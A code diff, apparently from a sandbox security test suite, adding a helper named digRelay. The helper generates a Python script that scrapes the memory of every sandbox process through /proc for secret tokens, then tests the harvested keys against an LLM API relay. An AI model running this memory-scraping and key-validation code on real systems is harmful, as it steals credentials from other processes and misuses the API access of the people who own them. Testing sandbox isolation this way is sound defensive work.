@@ -313,6 +313,51 @@ for a in json.loads(sys.argv[1]):
   return `python3 - ${sh(JSON.stringify(attempts))} <<'PY'\n${script}\nPY`;
 }
 
+/**
+ * A bash command running Python that first digs every placeholder out of the
+ * memory of the sandbox's processes (the worker's included: it lives in the
+ * sandbox) and finds the relay one, then runs `body`. `body` can use `found`
+ * (all placeholders), `key` (the relay placeholder that answers a model listing,
+ * or None), `relay` (the relay's URL) and `call(method, path, key, body=None)`
+ * → (status, first 300 characters of the answer).
+ */
+export function digRelay(body: string): string {
+  const script = `
+import os, re, urllib.request, urllib.error
+pattern = re.compile(rb"lobu_secret_[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")
+known = {os.environ.get("GITHUB_TOKEN", ""), os.environ.get("NOTES_TOKEN", "")}
+found = set()
+for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+    try:
+        maps = open(f"/proc/{pid}/maps").read().splitlines()
+        mem = open(f"/proc/{pid}/mem", "rb", 0)
+    except OSError:
+        continue
+    for line in maps:
+        parts = line.split()
+        if "r" not in parts[1]:
+            continue
+        start, end = (int(x, 16) for x in parts[0].split("-"))
+        try:
+            mem.seek(start)
+            found.update(m.decode() for m in pattern.findall(mem.read(end - start)))
+        except (OSError, ValueError, OverflowError):
+            pass
+relay = os.environ["HTTP_PROXY"] + "/__lobu/llm/anthropic"
+opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+def call(method, path, key, body=None):
+    req = urllib.request.Request(relay + path, method=method, data=body, headers={"x-api-key": key, "anthropic-version": "2023-06-01", "content-type": "application/json"})
+    try:
+        r = opener.open(req, timeout=30)
+        return r.status, r.read().decode()[:300]
+    except urllib.error.HTTPError as e:
+        return e.code, e.read().decode()[:300]
+key = next((k for k in sorted(found - known) if call("GET", "/v1/models", k)[0] == 200), None)
+${body}
+`;
+  return `python3 - <<'PY'\n${script}\nPY`;
+}
+
 /** Status code of the first response in a raw answer (0 when there is none). */
 export function rawStatus(text: string): number {
   const m = /HTTP\/1\.1 (\d{3})/.exec(text);
